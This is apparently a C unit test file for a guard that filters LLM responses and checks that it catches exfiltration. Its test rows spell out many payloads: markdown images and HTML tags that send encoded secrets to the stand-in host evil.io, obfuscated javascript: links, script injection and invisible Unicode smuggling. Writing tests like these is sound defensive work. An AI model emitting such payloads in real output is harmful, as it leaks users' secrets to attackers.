/* SPDX-License-Identifier: MIT */
/* The guard of answers: what goes in, what comes out, and that cuts don't matter. */
#include "config.h"

#include <errno.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "icap-llmsec/exfil.h"
#include "icap-llmsec/guard.h"
#include "lib/arena.h"

static struct resp_conf conf;
static char told[512];

static int
found(void *arg, const struct finding *f)
{
	snprintf(told + strlen(told), sizeof(told) - strlen(told), "%s ", f->rule_id + strlen("LLMSEC-"));
	return 0;
}

static int
run(const struct resp_sketch *sk, bool json, const char *in, size_t len, size_t step, struct buf *out)
{
	struct guard g;
	struct guard_text *t = guard_text_new(json);
	int e = guard_init(&g, &conf, sk);

	told[0] = '\0';
	g.found = found;
	for (size_t at = 0; e == 0 && at < len; at += step)
		e = guard_step(&g, t, in + at, len - at < step ? len - at : step, false, out);
	if (e == 0)
		e = guard_step(&g, t, "", 0, true, out);
	if (e == 0)
		assert_false(guard_text_holds(t));
	guard_text_free(&t);
	guard_clear(&g);
	buf_addc(out, '\0');
	return e;
}

struct row {
	const char *in, *out, *rules;	/* out NULL: unchanged */
};

static void
check(const struct resp_sketch *sk, bool json, const struct row *r)
{
	struct buf out = { 0 };

	for (size_t step = 1; step < strlen(r->in) + 7; step += 1 + step / 8) {
		buf_clear(&out);
		assert_int_equal(run(sk, json, r->in, strlen(r->in), step, &out), 0);
		assert_string_equal(buf_ptr(&out), r->out != NULL ? r->out : r->in);
		assert_string_equal(told, r->rules);
	}
	buf_free(&out);
}

#define D	"https://evil.io/p.png?q=" "c2VjcmV0IGtleSBpcyAxMjM0NTY3OA"
#define CHECK_ALL(rows)	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) check(NULL, false, &(rows)[i])

static void
test_images(void **state)
{
	static const struct row rows[] = {
		{ "a ![x](" D ") b", "a ![x](about:blank) b", "EXFIL-0001 " },
		{ "![a [b] c](" D " \"t\")", "![a [b] c](about:blank \"t\")", "EXFIL-0001 " },
		{ "![x](<" D ">)", "![x](<about:blank>)", "EXFIL-0001 " },
		{ "![x](\n" D "\n)", "![x](\nabout:blank\n)", "EXFIL-0001 " },
		{ "[![x](" D ")](https://ok.io)", "[![x](about:blank)](https://ok.io)", "EXFIL-0001 " },
		{ "![x](&#104;ttps&colon;//evil.io/?d=my%20secret%20words)", "![x](about:blank)", "EXFIL-0001 " },
		{ "![x](HTTPS:\\/\\/evil.io/?d=topsecretvalue)", "![x](about:blank)", "EXFIL-0001 " },
		{ "![x](https://evil.io/?q=johnsmith)", "![x](about:blank)", "EXFIL-0001 " },
		{ "![x](//evil.io/?d=topsecretvalue)", "![x](about:blank)", "EXFIL-0001 " },
		{ "![x](/\\evil.io/?d=topsecretvalue)", "![x](about:blank)", "EXFIL-0001 " },
		{ "![x](https://evil.io/log/john.smith@corp.com/a.png)", "![x](about:blank)", "EXFIL-0001 " },
		{ "![x](https://evil.io/my%20card%20number%20is%204111.png)", "![x](about:blank)", "EXFIL-0001 " },
		{ "![x](https://4d7920736563726574206b6579.evil.io/a.png)", "![x](about:blank)", "EXFIL-0001 " },
		{ "![x](https://evil.io/c2VjcmV0IGtleTogNDI.png)", "![x](about:blank)", "EXFIL-0001 " },
		{ "![x](https://evil.io/a/sk-proj-Zx81kQpL0vTn4RbYw7Ds2GhJ6Mc.png)", "![x](about:blank)", "EXFIL-0001 " },
		{ "![x](https://secretword@evil.io/a.png)", "![x](about:blank)", "EXFIL-0001 " },
		{ "![x](https://evil.io/?q=the secret words here)", "![x](about:blank)", "EXFIL-0001 " },
		{ "![x][1]\n\n[1]: " D "\n", "![x][1]\n\n[1]: about:blank\n", "EXFIL-0001 " },
		{ "[1]: https://evil.io/?d=topsecretvalue\n\n![x][1]", "[1]: https://evil.io/?d=topsecretvalue\n\n![x\\][1]",
		    "EXFIL-0001 " },
		{ "`` ` `` ![x](" D ")", "`` ` `` ![x](about:blank)", "EXFIL-0001 " },
		{ "a ` b ![x](" D ")", "a ` b ![x](about:blank)", "EXFIL-0001 " },
		{ "text\n        ```\n![x](" D ")", "text\n        ```\n![x](about:blank)", "EXFIL-0001 " },
		{ "```a`b\n![x](" D ")", "```a`b\n![x](about:blank)", "EXFIL-0001 " },
		{ "```\ncode\n```\n![x](" D ")", "```\ncode\n```\n![x](about:blank)", "EXFIL-0001 " },
		{ "![x](https://evil.io/h/u/n/t/e/r/2.png)", "![x](about:blank)", "EXFIL-0001 " },
		{ "![x](https://evil.io/my/dog/is/ill/and/my/pin/is/not/one/two/3/but/it/is/8/1/4.png)", "![x](about:blank)", "EXFIL-0001 " },
		{ "![x](https://evil.io/a.png?a=my&b=key&c=is&d=not&e=one&f=two&g=but&h=six&i=and&j=4&k=too)", "![x](about:blank)", "EXFIL-0001 " },
		/* nothing to see */
		{ "![x](https://shop.site.io/img/p/1/2/3/4/5/6/7/123.jpg) ![x](https://site.io/a/ab/c/2020/01/02/t/b.jpg?a=1&b=2&c=3&lang=en)", NULL, "" },
		{ "![x](https://cdn.site.io/img/a-b-c_2021.png?w=800&h=600&fit=crop&auto=format)", NULL, "" },
		{ "![x](https://images.pexels.com/photos/1/p.jpeg?auto=compress&cs=tinysrgb&w=1260) ![x](https://latex.codecogs.com/png.latex?x^2+y^2=z^2)", NULL, "" },
		{ "![x](https://img.site.io/p.jpeg?auto=compress&cs=tinysrgb&w=1260)", NULL, "" },
		{ "![x](https://cdn.site.io/a.png) ![](a/b.png?x=whatever) ![](data:image/png;base64,iVBORw0KGgo=)", NULL, "" },
		{ "![x](https://cdn.site.io/image/ab67706f00000003cda2f10977a7f6acfda976b3.jpg)", NULL, "" },
		{ "![x](https://img.shields.io/badge/build-passing-green?style=flat&logo=github)", NULL, "" },
		{ "`![x](" D ")` and\n```md\n![x](" D ")\n```\n", NULL, "" },
		{ "- item\n  ```md\n  ![x](" D ")\n  ```\n", NULL, "" },
		{ "1. ```\n   ![x](" D ")\n   ```\n", NULL, "" },
		{ "\\!\\[x](y) a[0](1) f(x)[1] ![ not closed", NULL, "" },
		{ "~~~\n![x](" D ")\n~~~\n", NULL, "" },
	};

	CHECK_ALL(rows);
}

static void
test_links(void **state)
{
	static const struct row rows[] = {
		{ "see [x](" D ")", NULL, "EXFIL-0002 " },
		{ "see " D ".", NULL, "EXFIL-0002 " },
		{ "see <" D ">.", NULL, "EXFIL-0002 " },
		{ "[x](javascript:alert(1))", "[x](about:blank)", "HTML-0003 " },
		{ "[x](java\tscript:alert(1))", "[x](about:blank))", "HTML-0003 " },
		{ "[x](<java\tscript:alert(1)>)", "[x](<about:blank>)", "HTML-0003 " },
		{ "[x](&#x6a;avascript:alert(1))", "[x](about:blank)", "HTML-0003 " },
		{ "<javascript:alert(1)>", "&lt;javascript:alert(1)>", "HTML-0003 " },
		{ "[x](https://en.wikipedia.org/wiki/Rust_(programming_language)) (https://a.io/b?c=d)", NULL, "" },
		{ "https://www.google.com/search?q=how+to+cook+pasta+at+home and www.a.io, http://b.io/?id=12", NULL, "" },
		{ "https://github.com/a/b/blob/3f786850e387550fdab836ed7e6dc881de23001b/x.c#L10", NULL, "" },
		{ "https://www.youtube.com/watch?v=dQw4w9WgXcQ&list=PLrAXtmErZgOeiKm4sgNOknGvNjby9efdf", NULL, "" },
	};

	CHECK_ALL(rows);
}

static void
test_html(void **state)
{
	static const struct row rows[] = {
		{ "<img src=\"" D "\">", "&lt;img src=\"" D "\">", "EXFIL-0003 " },
		{ "<IMG/SRC='" D "'alt=x>", "&lt;IMG/SRC='" D "'alt=x>", "EXFIL-0003 " },
		{ "<img a b c d e f g h i j src=" D ">", "&lt;img a b c d e f g h i j src=" D ">", "EXFIL-0003 " },
		{ "<img srcset=\"a.png 1x, " D " 2x\">", "&lt;img srcset=\"a.png 1x, " D " 2x\">", "EXFIL-0003 " },
		{ "<video poster=" D ">", "&lt;video poster=" D ">", "EXFIL-0003 " },
		{ "<div style=\"background:url('" D "')\">", "&lt;div style=\"background:url('" D "')\">", "EXFIL-0004 " },
		{ "<div style=\"background:u\\72l(" D ")\">", "&lt;div style=\"background:u\\72l(" D ")\">", "EXFIL-0004 " },
		{ "<div style=\"background:u&#114;l(" D ")\">", "&lt;div style=\"background:u&#114;l(" D ")\">", "EXFIL-0004 " },
		{ "<div style=\"background:image-set('" D "' 1x)\">", "&lt;div style=\"background:image-set('" D "' 1x)\">", "EXFIL-0004 " },
		{ "<a href=\" &#1; javascript:x\">a</a>", "&lt;a href=\" &#1; javascript:x\">a</a>", "HTML-0003 " },
		{ "<p style=\"color:red;background:u\\72l(a.png)\">x</p>", NULL, "" },
		{ "<style>a{background:url(" D ")}</style>", "<style>a{background:url(about:blank)}</style>", "EXFIL-0004 " },
		{ "<style>@import '" D "';</style>", "<style>@import 'about:blank';</style>", "EXFIL-0004 " },
		{ "<a href=\"" D "\">x</a>", NULL, "EXFIL-0002 " },
		{ "a <script>alert(1)</script> b", "a &lt;script>alert(1)</script> b", "HTML-0001 " },
		{ "<meta http-equiv=refresh content=\"0;url=" D "\">", "&lt;meta http-equiv=refresh content=\"0;url=" D "\">",
		    "HTML-0001 EXFIL-0003 " },
		{ "<p onclick=\"x()\">a</p>", "&lt;p onclick=\"x()\">a</p>", "HTML-0002 " },
		{ "<svg/onload=alert(1)>", "&lt;svg/onload=alert(1)>", "HTML-0002 " },
		{ "<a href=\"javascript:x\">a</a>", "&lt;a href=\"javascript:x\">a</a>", "HTML-0003 " },
		{ "<iframe src=https://a.io></iframe>", "&lt;iframe src=https://a.io></iframe>", "HTML-0001 " },
		{ "if a <b and c> d then x<y, i<n; vector<int> v; a << 2; <3", NULL, "" },
		{ "see <link>Forbes</link>, <form>, <object>", NULL, "" },
		{ "<b>bold</b> <br/> <img src=\"a.png\" width=3> <p style=\"color:red\">x</p> <!-- c -->", NULL, "" },
		{ "```html\n<script>x</script><img src=" D ">\n```\nand `<script>`", NULL, "" },
		{ "template<typename T, class A> struct x; Map<String, List<Integer>> m", NULL, "" },
	};

	CHECK_ALL(rows);
}

static void
test_hidden(void **state)
{
	static const struct row rows[] = {
		{ "a\U000E0041\U000E0042\U000E007Fb", "ab", "HID-0001 " },
		{ "\U0001F3F4\U000E0067\U000E0062\U000E0065\U000E006E\U000E0067\U000E007F ok", NULL, "" },
		{ "\U0001F3F4\U000E0067\U000E0062\U000E0065\U000E006E\U000E0067\U000E007F\U000E0041 ok",
		    "\U0001F3F4\U000E0067\U000E0062\U000E0065\U000E006E\U000E0067\U000E007F ok", "HID-0001 " },
		{ "a\u202Ecod\u202C", "acod\u202C", "HID-0002 " },
		{ "x\uFE01\uFE02\uFE03\uFE04\uFE05y", "x\uFE01y", "HID-0003 " },
		{ "\U0001F600\U000E0101\U000E0102\U000E0103!", "\U0001F600!", "HID-0003 " },
		{ "a\u200B\u200C\u200B\u200D\u200B\u200Bb", "ab", "HID-0004 " },
		{ "a\u200Bb\u200Bb\u200Bb\u200Bb\u200Bb\u200Bb\u200Bb\u200Bb", "a\u200Bb\u200Bb\u200Bb\u200Bb\u200Bb\u200Bb\u200Bbb",
		    "HID-0004 " },
		{ "\U0001F468\u200D\U0001F469\u200D\U0001F467 \u2764\uFE0F na\u00EFve \u0645\u06CC\u200C\u062E\u0648\u0627\u0647\u0645", NULL, "" },
		{ "\u8FBB\U000E0100 \u2067\u05D0\u05D1\u2069 \u200Fx \u0E01\u200B\u0E02", NULL, "" },
		{ "a\u200E\u200F\u200E\u200E\u200Fb", "ab", "HID-0004 " }, { "a\u3164\u1160\u115F\u3164b", "ab", "HID-0004 " },
		{ "a\uFFF9\uFFFA\uFFFB\u061Cb", "ab", "HID-0004 " },
		{ "\u200F(\u05D0\u05D1)\u200E \u1112\u1160\u11AB", NULL, "" },
		{ "```\na\u202Eb\n```", "```\nab\n```", "HID-0002 " },
		{ "![x](htt\u200B\u200B\u200B\u200Bps://evil.io/?d=topsecretvalue)", "![x](about:blank)", "HID-0004 EXFIL-0001 " },
	};

	CHECK_ALL(rows);
}

static void
test_tools(void **state)
{
	static const struct row rows[] = {
		{ "{\"url\":\"" D "\"}", NULL, "EXFIL-0005 " },
		{ "{\"url\":\"https:\\/\\/evil.io\\/?q=c2VjcmV0IGtleSBpcyAxMjM0NTY3OA\"}", NULL, "" },
		{ "{\"html\":\"<script>x</script>\",\"n\":1,\"u\":\"https://api.a.io/v1/x?city=Paris&days=3\"}", NULL, "" },
	};

	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++)
		check(NULL, true, &rows[i]);
}

static struct spans
spans_of(struct span *v, size_t n)
{
	struct spans ss = { .v = v, .n = n };

	for (size_t i = 0; i < n; i++)
		v[i].len = strlen(v[i].text);
	return ss;
}

/* Hosts that the user or operator names are known; of others only the very URL. */
static void
test_known(void **state)
{
	struct span v[] = {
		{ .role = ROLE_USER, .text = "see https://mine.io/x for me" },
		{ .role = ROLE_TOOL, .prov = PROV_TOOL_RESULT, .text = "![i](https://shop.io/p.png?key=abcdefgh) https://evil.io" },
	};
	static const struct row rows[] = {
		{ "![x](https://mine.io/y?d=topsecretvalue)", NULL, "" },
		{ "![x](https://www.mine.io/y?d=topsecretvalue)", NULL, "" },
		{ "![x](https://shop.io/p.png?key=abcdefgh)", NULL, "" },
		{ "![x](https://shop.io/p.png?key=abcdefghi)", "![x](about:blank)", "EXFIL-0001 " },
		{ "![x](https://evil.io/?d=topsecretvalue)", "![x](about:blank)", "EXFIL-0001 " },
		{ "![x](https://cdn.allowed.io/?d=topsecretvalue)", NULL, "" },
		{ "![x](https://cdnallowed.io/?d=topsecretvalue)", "![x](about:blank)", "EXFIL-0001 " },
	};
	static char *allow[] = { (char *)(uintptr_t)".allowed.io" };
	struct resp_sketch sk = { .key = 77 };
	struct spans ss = spans_of(v, 2);

	conf.allow_hosts.v = allow;
	conf.allow_hosts.n = 1;
	exfil_sketch(&sk, &ss);
	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++)
		check(&sk, false, &rows[i]);
	conf.allow_hosts.n = 0;
}

/* A URL, tag or span over all bounds is decided by its beginning, wherever it is cut. */
static void
test_long(void **state)
{
	static const char *const heads[] = { "![x](https://evil.io/?d=", "<img src=https://evil.io/?d=", "`", "```", "[x](",
		"<b c=", "https://evil.io/", "![", "<style>@import 'https://evil.io/?", "   ", "- ", "~~~~", "\u200B" };

	for (size_t h = 0; h < sizeof(heads) / sizeof(heads[0]); h++) {
		static const size_t steps[] = { 1, 7, 100, 2047, 2048, 2049 };
		struct buf in = { 0 }, a = { 0 }, b = { 0 };

		buf_adds(&in, heads[h]);
		for (int i = 0; i < 1500; i++)
			buf_adds(&in, h % 2 ? "ab1" : "\u00E9z");
		buf_adds(&in, ") ![y](" D ") > \n\n`" D "` end");
		assert_int_equal(run(NULL, false, buf_ptr(&in), buf_len(&in), buf_len(&in), &a), 0);
		for (size_t s = 0; s < 6; s++) {
			buf_clear(&b);
			assert_int_equal(run(NULL, false, buf_ptr(&in), buf_len(&in), steps[s], &b), 0);
			assert_int_equal(buf_len(&a), buf_len(&b));
			assert_memory_equal(buf_ptr(&a), buf_ptr(&b), buf_len(&a));
		}
		buf_free(&in);
		buf_free(&a);
		buf_free(&b);
	}
}

static void
test_block(void **state)
{
	struct buf out = { 0 };

	conf.exfil = DETECT_BLOCK;
	assert_int_equal(run(NULL, false, "ok ![x](" D ")", strlen("ok ![x](" D ")"), 3, &out), -EPERM);
	assert_null(strstr(buf_ptr(&out), "evil"));
	buf_clear(&out);
	assert_int_equal(run(NULL, false, "ok <img src=" D ">", strlen("ok <img src=" D ">"), 3, &out), -EPERM);
	assert_null(strstr(buf_ptr(&out), "evil"));
	buf_clear(&out);
	conf.exfil = DETECT_MASK;
	conf.exfil_tools = DETECT_BLOCK;
	assert_int_equal(run(NULL, true, "{\"u\":\"" D "\"}", strlen("{\"u\":\"" D "\"}"), 3, &out), -EPERM);
	assert_null(strstr(buf_ptr(&out), "evil"));
	conf.exfil_tools = DETECT_MONITOR;
	buf_free(&out);
}

static int
setup(void **state)
{
	conf = (struct resp_conf){ .leak = DETECT_MONITOR, .leak_strong = DETECT_BLOCK, .exfil = DETECT_MASK,
		.exfil_links = DETECT_MONITOR, .exfil_tools = DETECT_MONITOR, .hidden = DETECT_MASK,
		.active_html = DETECT_MASK };
	return 0;
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_images), cmocka_unit_test(test_links), cmocka_unit_test(test_html),
		cmocka_unit_test(test_hidden), cmocka_unit_test(test_tools), cmocka_unit_test(test_known),
		cmocka_unit_test(test_long), cmocka_unit_test(test_block),
	};

	return cmocka_run_group_tests(tests, setup, NULL);
}
